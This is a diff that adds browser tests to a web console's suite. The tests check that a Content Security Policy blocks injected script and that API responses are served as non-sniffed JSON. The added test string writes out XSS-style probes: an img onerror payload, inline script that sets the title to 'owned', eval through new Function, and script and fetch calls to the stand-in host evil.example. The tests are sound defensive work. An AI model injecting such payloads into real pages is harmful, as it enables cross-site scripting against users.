@@ -15,6 +15,37 @@ const names = [
 ];
 const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
 
+/** What the page lets happen to it; `owned` becomes its title should any of this run. */
+const slipIn = `(async () => {
+  // Whatever debuggers evaluate may evaluate more; what comes after it may not.
+  await new Promise((resolve) => setTimeout(resolve));
+  const create = (name) => document.createElement(name);
+  const attempts = {
+    html: () => { create('div').innerHTML = '<img src=x onerror=0>'; },
+    script: () => { create('script').text = 'document.title = "owned"'; },
+    address: () => { create('script').src = 'https://evil.example/'; },
+    code: () => new Function('document.title = "owned"')(),
+  };
+  const taken = Object.keys(attempts).filter((name) => {
+    try {
+      attempts[name]();
+      return true;
+    } catch {
+      return false;
+    }
+  });
+  const picture = create('img');
+  document.body.append(picture);
+  try {
+    picture.setAttribute('onerror', 'document.title = "owned"');
+  } catch {
+    // Refused already.
+  }
+  picture.src = 'data:,nothing';
+  const told = await fetch('http://evil.example/').then(() => true, () => false);
+  return { taken, told };
+})()`;
+
 inConsole('hostile names', (its) => {
   let importId: string;
   beforeAll(async () => {
@@ -43,6 +74,25 @@ inConsole('hostile names', (its) => {
       expect(await overflow(page)).toBeLessThanOrEqual(0);
       expect(complaints).toEqual([]);
     }
+  });
+
+  test('what is slipped into the page does not run, and asks nobody', async () => {
+    const { page, complaints } = await its.visit('/console/');
+    // As a fault of the page would: by text that is taken for HTML, and by elements with a script.
+    const slipped = await page.evaluate(slipIn);
+    expect(slipped).toEqual({ taken: [], told: false });
+    await delay(300);
+    expect(await page.title()).toMatch(/Savepoint$/);
+    expect(complaints.join('\n')).toMatch(/Content Security Policy/);
+  });
+
+  test('what the API answers is text, also to whoever opens it as a page', async () => {
+    const { page } = await its.visit(`/libraries/${person}`);
+    expect(await page.textContent('body')).toContain('onerror=');
+    expect(await page.evaluate('document.contentType')).toBe('application/json');
+    expect(await page.title()).toBe('');
+    const { headers } = await fetch(`${its.stack.apiUrl}/libraries/${person}`);
+    expect(headers.get('x-content-type-options')).toBe('nosniff');
   });
 
   test('an address of another kind becomes no link', async () => {
